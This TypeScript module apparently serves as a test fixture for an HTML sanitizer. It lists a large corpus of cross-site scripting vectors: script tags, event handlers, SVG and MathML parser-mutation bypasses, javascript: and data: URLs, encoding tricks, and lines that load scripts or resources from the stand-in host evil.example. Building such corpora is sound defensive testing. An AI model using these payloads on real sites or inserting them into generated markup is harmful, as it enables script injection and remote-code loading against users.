import published from 'dompurify-payloads/test/fixtures/expect.js';

/**
 * Ways to make a page run a script or ask a stranger for something, as OWASP's list, HTML5 Security and many a report
 * have them. Whatever runs calls `alert`; whatever asks asks `evil.example`.
 */
const OWN: readonly string[] = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script src="//evil.example/x.js"></script>
<script/src=data:,alert(1)></script>
<script type="module">alert(1)</script>
</script><script>alert(1)</script>
</SCRIPT ><script>alert(1)//
<!--<script>--><script>alert(1)</script>
<!--><img src=x onerror=alert(1)>-->
--><script>alert(1)</script><!--
--!><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
]]><script>alert(1)</script>
<?xml version="1.0"?><script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script x> alert(1) </script 1=2
<<script>alert(1);//<</script>
<svg/onload=alert(1)>
<svg onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script>&#97;lert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)" /></svg>
<svg><script xlink:href="https://evil.example/x.js"></script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x>
<svg><set attributeName="onmouseover" to="alert(1)"/></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdhbGVydCgxKSc+#x"/></svg>
<svg><use xlink:href="https://evil.example/x.svg#x"/></svg>
<svg><image href="https://evil.example/x.png" onload=alert(1)></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg><title><img title="</title><img src=x onerror=alert(1)>"></title></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><g title="</style><img src onerror=alert(1)>">
<svg><feImage><set attributeName="href" to="https://evil.example/x"/></feImage></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
<svg><discard onbegin=alert(1)>
<math><mi xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">CLICKME</math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>
<math><annotation-xml encoding="text/html"><style></math><img src onerror=alert(1)></style></annotation-xml>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><!--</math><img src onerror=alert(1)>-->
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><svg/onload=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<listing><img src=x onerror=alert(1)></listing>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<textarea autofocus onfocus=alert(1)>
<title><a href="</title><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<template><s><template><s><img src=x onerror=alert(1)>@</s></template></s></template>
<template shadowrootmode="open"><script>alert(1)</script></template>
<img src=x onerror=alert(1)>
<IMG SRC=x OnErRoR=alert(1)>
<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">
<img src='x'onerror='alert(1)'
<img/src=x/onerror=alert(1)//
<img src=javascript:alert(1)>
<IMG SRC="jav&#x09;ascript:alert(1);">
<IMG SRC="jav&#x0A;ascript:alert(1);">
<IMG SRC=" &#14; javascript:alert(1);">
<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>
<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Aalert(1)>
<IMG SRC='vbscript:msgbox("XSS")'>
<IMG DYNSRC="javascript:alert(1)">
<IMG LOWSRC="javascript:alert(1)">
<IMG """><SCRIPT>alert(1)</SCRIPT>"\>
<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>
<img src="https://evil.example/pixel.gif">
<img srcset="https://evil.example/1 1x, https://evil.example/2 2x">
<img src=1 href=1 onerror="javascript:alert(1)"></img>
<image src=x onerror=alert(1)>
<image href="https://evil.example/x">
<picture><source srcset="https://evil.example/x"><img></picture>
<input type="image" src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<select autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<button form=x formaction="javascript:alert(1)">X</button><form id=x>
<form action="javascript:alert(1)"><input type=submit></form>
<form action="https://evil.example"><input name=attributes><input name=nodeName></form>
<form id="x"></form><button form="x" formaction="javascript:alert(1)">X</button>
<isindex action=javascript:alert(1) type=image>
<video src=x onerror=alert(1)>
<video poster=javascript:alert(1)//></video>
<video><source onerror="javascript:alert(1)"></video>
<video poster="https://evil.example/x"></video>
<audio src=x onerror=alert(1)>
<audio src="https://evil.example/x" autoplay>
<track src="https://evil.example/x" onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>
<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>
<iframe onload=alert(1)></iframe>
<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>
<iframe src="https://evil.example"></iframe>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)">
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>
<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:alert(1)"></OBJECT>
<embed src="javascript:alert(1)">
<embed code="https://evil.example/x.swf" allowscriptaccess=always>
<applet code="javascript:alert(1)">
<portal src="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#09;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:alert(1)">x</a>
<a href="https://evil.example" target=_blank>x</a>
<a ping="https://evil.example" href="#">x</a>
<a onmouseover=alert(1)>x</a>
<a style="-o-link:'javascript:alert(1)';-o-link-source:current">x</a>
<area href="javascript:alert(1)" onfocus=alert(1) autofocus>
<base href="https://evil.example/">
<BASE HREF="javascript:alert(1);//">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel="import" href="data:text/html,<script>alert(1)</script>">
<link rel="prefetch" href="https://evil.example/x">
<LINK REL="stylesheet" HREF="javascript:alert(1);">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://evil.example/">
<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">
<meta http-equiv="Content-Security-Policy" content="script-src 'none'">
<style>@import 'https://evil.example/x.css';</style>
<style>*{background:url(https://evil.example/x)}</style>
<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS
<style><!--</style><script>alert(1)//--></script>
<div style="background:url(https://evil.example/x)">
<DIV STYLE="width: expression(alert(1));">
<DIV STYLE="behaviour: url('https://evil.example/x.htc');">
<XSS STYLE="xss:expression(alert(1))">
<p style="font-family:'\22\3bx:expression(alert(1))/*'">
<body onload=alert(1)>
<BODY BACKGROUND="javascript:alert(1)">
<body onpageshow=alert(1)><body onhashchange=alert(1)>
<html onmouseover=alert(1)>
<marquee onstart=alert(1)>
<bgsound src="https://evil.example/x">
<LAYER SRC="https://evil.example/x.html"></LAYER>
<TABLE BACKGROUND="https://evil.example/x"><TD BACKGROUND="javascript:alert(1)">
<details open ontoggle=alert(1)><summary>x</summary></details>
<dialog open onclose=alert(1)><form method=dialog></dialog>
<div popover onbeforetoggle=alert(1) id=x><button popovertarget=x>
<div onfocus=alert(1) tabindex=1 id=x autofocus contenteditable>
<x onclick=alert(1) contenteditable>
<div onanimationstart=alert(1) style="animation:x 1s">
<div onwheel=alert(1) onpointerenter=alert(1)>
<custom-element onconnected=alert(1) is=x>
<slot onslotchange=alert(1)></slot>
<glossator-widget glossary="https://evil.example/glossary.json"></glossator-widget>
<glossator-entry term="x" onclick=alert(1)></glossator-entry>
<b><i></b><img src=x onerror=alert(1)></i>
<table><tr><td><math><mtext><a><table><a><style><img title="</style><img src onerror=alert(1)>">
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
"><img src=x onerror=alert(1)>
'><svg/onload=alert(1)>
\"><script>alert(1)</script>
";alert(1);//
';alert(1)//\';alert(1)//";alert(1)//\";alert(1)//--></SCRIPT>">'><SCRIPT>alert(1)</SCRIPT>
${'$'}{alert(1)}
{{constructor.constructor('alert(1)')()}}
[[${'$'}{alert(1)}]]
<%= alert(1) %>
#{alert(1)}
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
<a href='jAvAsCrIpT&Tab;:&NewLine;alert(1)'>x</a>
javascript:alert(1)
JAVASCRIPT:alert(1)
 javascript:alert(1)
javascript://%0aalert(1)
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
jaVasCript:/*-/*${'`'}/*\\${'`'}/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert()//>
javascript&colon;alert(1)
java&#10;script:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>
DATA:text/html,x
vbscript:msgbox(1)
feed:javascript:alert(1)
view-source:javascript:alert(1)
blob:https://evil.example/x
filesystem:https://evil.example/x
file:///etc/passwd
jar:javascript:alert(1)!
//evil.example/x.png
\\evil.example\x
/\evil.example/x
/\/evil.example/x
https:evil.example
https:/evil.example/x
http:\\evil.example\x
https://evil.example/x.png
https://user:alert@evil.example/
mailto:x@evil.example?subject=<script>alert(1)</script>
[x](javascript:alert(1))
![x](https://evil.example/x.png)
<javascript:alert(1)>
[x]: javascript:alert(1)
`
  .split('\n')
  .filter((line) => line !== '')
  .flatMap((line) => (line.startsWith('javascript:alert') ? [line, ...disguised(line)] : [line]));

export const VECTORS: readonly string[] = [...OWN, ...published.map(({ payload }) => payload)];

/** With what browsers pass over in an address, which this file cannot write as it is. */
function disguised(address: string): readonly string[] {
  return ['\t', '\n', '\r', '\0', '\u0001', '\u00a0', '\u200b', '\ufeff'].flatMap((sign) => [
    sign + address,
    address.replace('script', `${sign}script`),
    address.replace(':', `${sign}:`),
  ]);
}
